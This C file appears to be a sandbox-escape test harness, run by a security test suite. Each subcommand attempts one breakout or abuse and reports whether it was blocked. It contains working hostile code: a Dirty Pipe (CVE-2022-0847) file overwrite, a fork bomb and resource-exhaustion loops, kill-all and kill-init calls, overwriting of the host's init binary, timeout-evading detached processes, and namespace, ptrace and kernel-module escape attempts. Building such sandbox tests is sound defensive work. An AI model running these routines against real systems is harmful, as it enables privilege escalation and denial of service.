/*
 * Hostile code, run inside a sandbox by tests/security/code.py: each
 * subcommand tries one way out and prints one line, "RESULT <word>",
 * where the word is the errno name the attempt met ("EPERM"), or
 * "SUCCEEDED" when the attempt worked, which is always a failure of the
 * sandbox.  Some print a value instead; code.py says what is safe.
 *
 * Built inside the sandbox with the image's cc, as an attacker would.
 */
#define _GNU_SOURCE
#include <sys/types.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>

#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const struct {
	int		 e;
	const char	*name;
} errnames[] = {
	{ EPERM, "EPERM" }, { ENOENT, "ENOENT" }, { ESRCH, "ESRCH" },
	{ EACCES, "EACCES" }, { EROFS, "EROFS" }, { ENOSYS, "ENOSYS" },
	{ EINVAL, "EINVAL" }, { EAFNOSUPPORT, "EAFNOSUPPORT" },
	{ ENETUNREACH, "ENETUNREACH" }, { ECONNREFUSED, "ECONNREFUSED" },
	{ ETXTBSY, "ETXTBSY" }, { EMFILE, "EMFILE" }, { ENOSPC, "ENOSPC" },
	{ EAGAIN, "EAGAIN" }, { EBADF, "EBADF" }, { ENODEV, "ENODEV" },
	{ EHOSTUNREACH, "EHOSTUNREACH" }, { EADDRNOTAVAIL, "EADDRNOTAVAIL" },
	{ EPROTONOSUPPORT, "EPROTONOSUPPORT" }, { EIO, "EIO" },
	{ ENXIO, "ENXIO" }, { ENOTDIR, "ENOTDIR" }, { EISDIR, "EISDIR" },
	{ EEXIST, "EEXIST" }, { ENOMEM, "ENOMEM" }, { EFBIG, "EFBIG" },
	{ ESOCKTNOSUPPORT, "ESOCKTNOSUPPORT" }, { EOPNOTSUPP, "EOPNOTSUPP" },
};

static void
result(const char *word)
{
	printf("RESULT %s\n", word);
	fflush(stdout);
}

/* The outcome of a call that returned r: errno's name, or SUCCEEDED. */
static void
outcome(long r)
{
	size_t	 i;
	char	 buf[32];

	if (r != -1) {
		result("SUCCEEDED");
		return;
	}
	for (i = 0; i < sizeof(errnames) / sizeof(errnames[0]); i++)
		if (errnames[i].e == errno) {
			result(errnames[i].name);
			return;
		}
	snprintf(buf, sizeof(buf), "errno%d", errno);
	result(buf);
}

static void
a_socket(int domain, int type, int proto)
{
	outcome(socket(domain, type, proto));
}

static void
a_connect4(const char *ip, int port, int type)
{
	struct sockaddr_in	 sin;
	int			 s;

	if ((s = socket(AF_INET, type, 0)) == -1) {
		outcome(-1);
		return;
	}
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(port);
	inet_pton(AF_INET, ip, &sin.sin_addr);
	if (type == SOCK_DGRAM)
		outcome(sendto(s, "x", 1, 0, (struct sockaddr *)&sin,
		    sizeof(sin)));
	else
		outcome(connect(s, (struct sockaddr *)&sin, sizeof(sin)));
}

static void
a_connect6(const char *ip, int port)
{
	struct sockaddr_in6	 sin6;
	int			 s;

	if ((s = socket(AF_INET6, SOCK_STREAM, 0)) == -1) {
		outcome(-1);
		return;
	}
	memset(&sin6, 0, sizeof(sin6));
	sin6.sin6_family = AF_INET6;
	sin6.sin6_port = htons(port);
	inet_pton(AF_INET6, ip, &sin6.sin6_addr);
	outcome(connect(s, (struct sockaddr *)&sin6, sizeof(sin6)));
}

static void
a_dns(const char *name)
{
	struct addrinfo	*ai;
	int		 r;

	r = getaddrinfo(name, "80", NULL, &ai);
	printf("RESULT %s\n", r == 0 ? "SUCCEEDED" : "FAILED");
}

/* Connect to an abstract unix socket named by argv. */
static void
a_abstract(const char *name)
{
	struct sockaddr_un	 sun;
	socklen_t		 len;
	int			 s;

	if ((s = socket(AF_UNIX, SOCK_STREAM, 0)) == -1) {
		outcome(-1);
		return;
	}
	memset(&sun, 0, sizeof(sun));
	sun.sun_family = AF_UNIX;
	strncpy(sun.sun_path + 1, name, sizeof(sun.sun_path) - 2);
	len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
	outcome(connect(s, (struct sockaddr *)&sun, len));
}

static void
a_alg(void)
{
	struct sockaddr_alg	 sa = { .salg_family = AF_ALG };
	int			 s;

	strcpy((char *)sa.salg_type, "hash");
	strcpy((char *)sa.salg_name, "sha256");
	if ((s = socket(AF_ALG, SOCK_SEQPACKET, 0)) == -1) {
		outcome(-1);
		return;
	}
	outcome(bind(s, (struct sockaddr *)&sa, sizeof(sa)));
}

/* Ptrace a child that is ours, in the same sandbox. */
static void
a_ptrace(void)
{
	pid_t	 pid;
	long	 r;

	if ((pid = fork()) == 0) {
		pause();
		_exit(0);
	}
	r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	outcome(r);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void
a_traceme(void)
{
	outcome(ptrace(PTRACE_TRACEME, 0, NULL, NULL));
}

static void
a_vm_readv(void)
{
	static char	 secret[] = "secret";
	char		 buf[8];
	struct iovec	 l = { buf, sizeof(secret) }, r = { secret,
			    sizeof(secret) };
	pid_t		 pid;

	if ((pid = fork()) == 0) {
		pause();
		_exit(0);
	}
	outcome(syscall(SYS_process_vm_readv, pid, &l, 1, &r, 1, 0));
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void
a_vm_writev(void)
{
	char		 buf[8] = "x", dst[8];
	struct iovec	 l = { buf, 1 }, r = { dst, 1 };
	pid_t		 pid;

	if ((pid = fork()) == 0) {
		pause();
		_exit(0);
	}
	outcome(syscall(SYS_process_vm_writev, pid, &l, 1, &r, 1, 0));
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void
a_keyctl(void)
{
	/* add_key(2) "user" key into the session keyring (-3). */
	outcome(syscall(SYS_add_key, "user", "mcpd", "x", 1, -3));
}

static void
a_keyctl_join(void)
{
	/* KEYCTL_JOIN_SESSION_KEYRING (1), a new anonymous keyring. */
	outcome(syscall(SYS_keyctl, 1, NULL));
}

static void
a_mount(void)
{
	outcome(mount("none", "/tmp", "tmpfs", 0, NULL));
}

static void
a_umount(void)
{
	outcome(umount2("/proc", MNT_DETACH));
}

static void
a_unshare(int flags)
{
	outcome(unshare(flags));
}

static void
a_setns(void)
{
	int	 fd;

	if ((fd = open("/proc/1/ns/mnt", O_RDONLY)) == -1) {
		outcome(-1);
		return;
	}
	outcome(setns(fd, 0));
}

static void
a_clone_ns(void)
{
	long	 r;

	r = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL,
	    NULL, NULL, NULL);
	if (r == 0)
		_exit(0);
	if (r > 0)
		waitpid((pid_t)r, NULL, 0);
	outcome(r > 0 ? 0 : -1);
}

static void
a_finit_module(void)
{
	int	 fd;

	fd = open("/dev/null", O_RDONLY);
	outcome(syscall(SYS_finit_module, fd, "", 0));
}

static void
a_init_module(void)
{
	static char	 img[64];

	outcome(syscall(SYS_init_module, img, sizeof(img), ""));
}

static void
a_kexec(void)
{
	outcome(syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL));
}

static void
a_bpf(void)
{
	char	 attr[128];

	memset(attr, 0, sizeof(attr));
	/* BPF_MAP_CREATE of an array map: the least a loader needs. */
	((unsigned int *)attr)[0] = 2;		/* BPF_MAP_TYPE_ARRAY */
	((unsigned int *)attr)[1] = 4;
	((unsigned int *)attr)[2] = 4;
	((unsigned int *)attr)[3] = 1;
	outcome(syscall(SYS_bpf, 0, attr, sizeof(attr)));
}

static void
a_perf(void)
{
	struct perf_event_attr	 pe;

	memset(&pe, 0, sizeof(pe));
	pe.type = PERF_TYPE_SOFTWARE;
	pe.size = sizeof(pe);
	pe.config = PERF_COUNT_SW_CPU_CLOCK;
	pe.exclude_kernel = 1;
	outcome(syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
}

static void
a_userfaultfd(void)
{
	outcome(syscall(SYS_userfaultfd, 0));
}

static void
a_io_uring(void)
{
	char	 params[120];

	memset(params, 0, sizeof(params));
	outcome(syscall(SYS_io_uring_setup, 4, params));
}

static void
a_clock_settime(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	ts.tv_sec += 86400L * 365;
	outcome(clock_settime(CLOCK_REALTIME, &ts));
}

static void
a_settimeofday(void)
{
	struct timeval	 tv;

	gettimeofday(&tv, NULL);
	tv.tv_sec -= 86400L * 365;
	outcome(settimeofday(&tv, NULL));
}

static void
a_adjtimex(void)
{
	char	 tx[256];

	memset(tx, 0, sizeof(tx));
	/* modes = ADJ_OFFSET|ADJ_FREQUENCY: a change, not a read. */
	*(unsigned int *)tx = 0x0001 | 0x0002;
	outcome(syscall(SYS_adjtimex, tx));
}

static void
a_mknod(const char *path)
{
	outcome(mknod(path, S_IFCHR | 0666, makedev(1, 3)));
}

static void
a_mknod_block(const char *path)
{
	outcome(mknod(path, S_IFBLK | 0666, makedev(8, 0)));
}

static void
a_open(const char *path, int flags)
{
	outcome(open(path, flags));
}

/* Write a byte to a file: "SUCCEEDED" only if the write took. */
static void
a_write(const char *path, const char *what)
{
	int	 fd;

	if ((fd = open(path, O_WRONLY)) == -1) {
		outcome(-1);
		return;
	}
	outcome(write(fd, what, strlen(what)) == -1 ? -1 : 0);
}

/* Read a file: print how many bytes came, and whether any was not 0. */
static void
a_read(const char *path)
{
	char	 buf[65536];
	ssize_t	 n, total = 0;
	int	 fd, nonzero = 0;

	if ((fd = open(path, O_RDONLY)) == -1) {
		outcome(-1);
		return;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0) {
		total += n;
		for (ssize_t i = 0; i < n && !nonzero; i++)
			nonzero = buf[i] != 0;
		if (total > 1 << 24)
			break;
	}
	if (n == -1) {
		outcome(-1);
		return;
	}
	printf("RESULT READ %zd %s\n", total, nonzero ? "data" : "zeros");
}

/* Any kernel address in /proc/kallsyms that is not 0. */
static void
a_kallsyms(void)
{
	FILE		*f;
	unsigned long	 addr;
	char		 line[256];
	int		 n = 0, real = 0;

	if ((f = fopen("/proc/kallsyms", "r")) == NULL) {
		outcome(-1);
		return;
	}
	while (fgets(line, sizeof(line), f) != NULL) {
		n++;
		if (sscanf(line, "%lx", &addr) == 1 && addr != 0)
			real++;
	}
	printf("RESULT KALLSYMS %d lines %d addresses\n", n, real);
}

static void
a_syslog(void)
{
	char	 buf[4096];

	/* SYSLOG_ACTION_READ_ALL */
	outcome(syscall(SYS_syslog, 3, buf, (int)sizeof(buf)));
}

/*
 * A 32-bit system call through int 0x80: getpid (20 on i386).  The
 * filter allows x86_64 only, so this must never return a pid.
 */
static void
a_int80(void)
{
	long	 r;

	__asm__ volatile ("int $0x80" : "=a"(r) : "a"(20L) : "memory");
	if (r > 0)
		result("SUCCEEDED");
	else {
		errno = (int)-r;
		outcome(-1);
	}
}

/* x32 ABI: getpid with the x32 bit set. */
static void
a_x32(void)
{
	outcome(syscall(0x40000000L | SYS_getpid) > 0 ? 0 : -1);
}

/* The process's own binary, and PID 1's (sandbox-init, from the host). */
static void
a_overwrite_exe(const char *path)
{
	int	 fd;

	if ((fd = open(path, O_WRONLY)) == -1) {
		outcome(-1);
		return;
	}
	outcome(write(fd, "\x7f" "ELF", 4) == 4 ? 0 : -1);
}

static void
a_setuid_self(void)
{
	outcome(setuid(0));
}

/* Make a file set-uid and see whether the bit stays. */
static void
a_chmod_suid(const char *path)
{
	struct stat	 st;

	if (chmod(path, 04755) == -1) {
		outcome(-1);
		return;
	}
	if (stat(path, &st) == -1) {
		outcome(-1);
		return;
	}
	printf("RESULT MODE %o\n", (unsigned)st.st_mode & 07777);
}

/* Identity: uid, euid, and capabilities in effect. */
static void
a_id(void)
{
	FILE	*f;
	char	 line[256];

	printf("RESULT ID uid=%u euid=%u", (unsigned)getuid(),
	    (unsigned)geteuid());
	if ((f = fopen("/proc/self/status", "r")) != NULL) {
		while (fgets(line, sizeof(line), f) != NULL)
			if (strncmp(line, "CapEff:", 7) == 0 ||
			    strncmp(line, "CapPrm:", 7) == 0 ||
			    strncmp(line, "CapBnd:", 7) == 0) {
				line[strcspn(line, "\n")] = '\0';
				printf(" %s", line);
			}
		fclose(f);
	}
	printf("\n");
}

/* Signal every pid from 2 to max with signal 0; count the ones we may. */
static void
a_signal_scan(const char *upto)
{
	pid_t	 p, end = *upto != '\0' ? (pid_t)atoi(upto) : 1 << 22;
	int	 n = 0;

	for (p = 2; p < end; p++)
		if (kill(p, 0) == 0)
			n++;
	printf("RESULT VISIBLE %d\n", n);
}

static void
a_kill_all(void)
{
	/* Everything we may signal, bar ourselves: only the sandbox. */
	signal(SIGTERM, SIG_IGN);
	outcome(kill(-1, SIGKILL));
}

static void
a_kill_init(void)
{
	outcome(kill(1, SIGKILL));
	usleep(200000);
	outcome(kill(1, 0));
}

static void
a_kill_pid(const char *pid)
{
	outcome(kill((pid_t)atoi(pid), SIGKILL));
}

/* Open descriptors until refused. */
static void
a_fds(void)
{
	int	 n = 0;

	while (open("/dev/null", O_RDONLY) != -1)
		n++;
	printf("RESULT FDS %d ", n);
	outcome(-1);
}

/* Files until refused, in a directory. */
static void
a_inodes(const char *dir)
{
	char	 path[4096];
	long	 n;
	int	 fd;

	for (n = 0; n < 10000000; n++) {
		snprintf(path, sizeof(path), "%s/f%ld", dir, n);
		if ((fd = open(path, O_CREAT | O_WRONLY, 0600)) == -1)
			break;
		close(fd);
	}
	printf("RESULT FILES %ld ", n);
	outcome(-1);
}

/* Escape a timeout: a detached grandchild that ignores every signal. */
static void
a_outlive(const char *tag)
{
	pid_t	 pid;
	int	 sig;

	if ((pid = fork()) == 0) {
		setsid();
		if (fork() == 0) {
			for (sig = 1; sig < 32; sig++)
				signal(sig, SIG_IGN);
			close(0);
			close(1);
			close(2);
			execlp("sleep", "sleep", tag, (char *)NULL);
			_exit(1);
		}
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	result("DETACHED");
	for (;;)
		pause();
}

/* Keep the CPU busy, in several threads' worth of processes. */
static void
a_spin(void)
{
	fork();
	fork();
	for (volatile unsigned long i = 0;; i++)
		;
}

static void
a_memory(void)
{
	size_t	 n = 0;
	char	*p;

	for (;;) {
		if ((p = malloc(1 << 20)) == NULL)
			break;
		memset(p, 1, 1 << 20);
		n++;
	}
	printf("RESULT MALLOC %zu MiB\n", n);
}

static void
a_forkbomb(void)
{
	for (;;)
		fork();
}

static void
a_output(void)
{
	static char	 buf[65536];

	memset(buf, 'A', sizeof(buf));
	for (;;)
		if (write(1, buf, sizeof(buf)) == -1)
			break;
}

static void
a_fill(const char *path)
{
	static char	 buf[1 << 20];
	int		 fd;

	memset(buf, 'x', sizeof(buf));
	if ((fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600)) == -1) {
		outcome(-1);
		return;
	}
	for (;;)
		if (write(fd, buf, sizeof(buf)) == -1)
			break;
	outcome(-1);
}

/*
 * Calls the profile allows and Linux 6.1 implements, with arguments no
 * kernel accepts: which kernel answers.  The host's answers each with
 * its own code (EINVAL, EBADF, EFAULT); gVisor's, ENOSYS for those it
 * does not implement, so that no host code ever runs for them.
 */
static void
a_kernel_calls(void)
{
	static const struct {
		const char	*name;
		long		 nr;
	} calls[] = {
		{ "openat2", SYS_openat2 },
		{ "pidfd_open", SYS_pidfd_open },
		{ "futex_waitv", SYS_futex_waitv },
		{ "epoll_pwait2", SYS_epoll_pwait2 },
		{ "remap_file_pages", SYS_remap_file_pages },
		{ "pkey_alloc", SYS_pkey_alloc },
	};
	size_t	 i, j;
	long	 r;
	char	 line[512], *p = line;

	p += snprintf(line, sizeof(line), "RESULT");
	for (i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		/* -1 as a descriptor, a pid, a flag set: never valid. */
		errno = 0;
		r = syscall(calls[i].nr, -1L, 0L, 0L, 0L, 0L, 0L);
		for (j = 0; j < sizeof(errnames) / sizeof(errnames[0]); j++)
			if (errnames[j].e == errno)
				break;
		p += snprintf(p, sizeof(line) - (size_t)(p - line), " %s=%s",
		    calls[i].name, r != -1 ? "SUCCEEDED" :
		    j < sizeof(errnames) / sizeof(errnames[0]) ?
		    errnames[j].name : "other");
	}
	printf("%s\n", line);
}

/*
 * Dirty Pipe (CVE-2022-0847): a pipe buffer left mergeable, then one
 * spliced from a file opened read-only, then a write into the pipe.  A
 * vulnerable kernel writes through to the file's page cache.  HELD if the
 * file is unchanged; path is a file of the sandbox's own, mode 0444.
 */
static void
a_dirtypipe(const char *path)
{
	char	 before[8], after[8], junk[4096];
	int	 fd, p[2], size, i;
	loff_t	 off = 0;

	if ((fd = open(path, O_RDONLY)) == -1 || pipe(p) == -1 ||
	    pread(fd, before, sizeof(before), 0) != sizeof(before)) {
		outcome(-1);
		return;
	}
	memset(junk, 'j', sizeof(junk));
	size = fcntl(p[1], F_GETPIPE_SZ);
	for (i = 0; i < size; i += (int)sizeof(junk))
		if (write(p[1], junk, sizeof(junk)) == -1)
			break;
	for (i = 0; i < size; i += (int)sizeof(junk))
		if (read(p[0], junk, sizeof(junk)) == -1)
			break;
	if (splice(fd, &off, p[1], NULL, 1, 0) != 1) {
		outcome(-1);
		return;
	}
	(void)write(p[1], "PWNED", 5);
	if (pread(fd, after, sizeof(after), 0) != sizeof(after)) {
		outcome(-1);
		return;
	}
	result(memcmp(before, after, sizeof(before)) == 0 ? "HELD" :
	    "SUCCEEDED");
}

static void
usage(void)
{
	fprintf(stderr, "usage: attack name [args]\n");
	exit(2);
}

int
main(int argc, char *argv[])
{
	const char	*a, *x;

	if (argc < 2)
		usage();
	a = argv[1];
	x = argc > 2 ? argv[2] : "";
	if (strcmp(a, "raw") == 0)
		a_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	else if (strcmp(a, "raw6") == 0)
		a_socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
	else if (strcmp(a, "packet") == 0)
		a_socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	else if (strcmp(a, "alg") == 0)
		a_alg();
	else if (strcmp(a, "vsock") == 0)
		a_socket(AF_VSOCK, SOCK_STREAM, 0);
	else if (strcmp(a, "connect4") == 0)
		a_connect4(x, argc > 3 ? atoi(argv[3]) : 80, SOCK_STREAM);
	else if (strcmp(a, "udp4") == 0)
		a_connect4(x, 53, SOCK_DGRAM);
	else if (strcmp(a, "connect6") == 0)
		a_connect6(x, 80);
	else if (strcmp(a, "dns") == 0)
		a_dns(x);
	else if (strcmp(a, "abstract") == 0)
		a_abstract(x);
	else if (strcmp(a, "ptrace") == 0)
		a_ptrace();
	else if (strcmp(a, "traceme") == 0)
		a_traceme();
	else if (strcmp(a, "vm_readv") == 0)
		a_vm_readv();
	else if (strcmp(a, "vm_writev") == 0)
		a_vm_writev();
	else if (strcmp(a, "add_key") == 0)
		a_keyctl();
	else if (strcmp(a, "keyctl") == 0)
		a_keyctl_join();
	else if (strcmp(a, "mount") == 0)
		a_mount();
	else if (strcmp(a, "umount") == 0)
		a_umount();
	else if (strcmp(a, "unshare_user") == 0)
		a_unshare(CLONE_NEWUSER);
	else if (strcmp(a, "unshare_net") == 0)
		a_unshare(CLONE_NEWNET);
	else if (strcmp(a, "setns") == 0)
		a_setns();
	else if (strcmp(a, "clone_ns") == 0)
		a_clone_ns();
	else if (strcmp(a, "finit_module") == 0)
		a_finit_module();
	else if (strcmp(a, "init_module") == 0)
		a_init_module();
	else if (strcmp(a, "kexec") == 0)
		a_kexec();
	else if (strcmp(a, "bpf") == 0)
		a_bpf();
	else if (strcmp(a, "perf") == 0)
		a_perf();
	else if (strcmp(a, "userfaultfd") == 0)
		a_userfaultfd();
	else if (strcmp(a, "io_uring") == 0)
		a_io_uring();
	else if (strcmp(a, "clock_settime") == 0)
		a_clock_settime();
	else if (strcmp(a, "settimeofday") == 0)
		a_settimeofday();
	else if (strcmp(a, "adjtimex") == 0)
		a_adjtimex();
	else if (strcmp(a, "mknod") == 0)
		a_mknod(x);
	else if (strcmp(a, "mknod_block") == 0)
		a_mknod_block(x);
	else if (strcmp(a, "open_rw") == 0)
		a_open(x, O_RDWR);
	else if (strcmp(a, "open_ro") == 0)
		a_open(x, O_RDONLY);
	else if (strcmp(a, "write") == 0)
		a_write(x, argc > 3 ? argv[3] : "1\n");
	else if (strcmp(a, "read") == 0)
		a_read(x);
	else if (strcmp(a, "kallsyms") == 0)
		a_kallsyms();
	else if (strcmp(a, "syslog") == 0)
		a_syslog();
	else if (strcmp(a, "int80") == 0)
		a_int80();
	else if (strcmp(a, "x32") == 0)
		a_x32();
	else if (strcmp(a, "overwrite") == 0)
		a_overwrite_exe(x);
	else if (strcmp(a, "setuid") == 0)
		a_setuid_self();
	else if (strcmp(a, "chmod_suid") == 0)
		a_chmod_suid(x);
	else if (strcmp(a, "id") == 0)
		a_id();
	else if (strcmp(a, "kernel_calls") == 0)
		a_kernel_calls();
	else if (strcmp(a, "dirtypipe") == 0)
		a_dirtypipe(x);
	else if (strcmp(a, "signal_scan") == 0)
		a_signal_scan(x);
	else if (strcmp(a, "kill_all") == 0)
		a_kill_all();
	else if (strcmp(a, "kill_init") == 0)
		a_kill_init();
	else if (strcmp(a, "kill_pid") == 0)
		a_kill_pid(x);
	else if (strcmp(a, "fds") == 0)
		a_fds();
	else if (strcmp(a, "inodes") == 0)
		a_inodes(x);
	else if (strcmp(a, "outlive") == 0)
		a_outlive(x);
	else if (strcmp(a, "spin") == 0)
		a_spin();
	else if (strcmp(a, "memory") == 0)
		a_memory();
	else if (strcmp(a, "forkbomb") == 0)
		a_forkbomb();
	else if (strcmp(a, "output") == 0)
		a_output();
	else if (strcmp(a, "fill") == 0)
		a_fill(x);
	else
		usage();
	return 0;
}
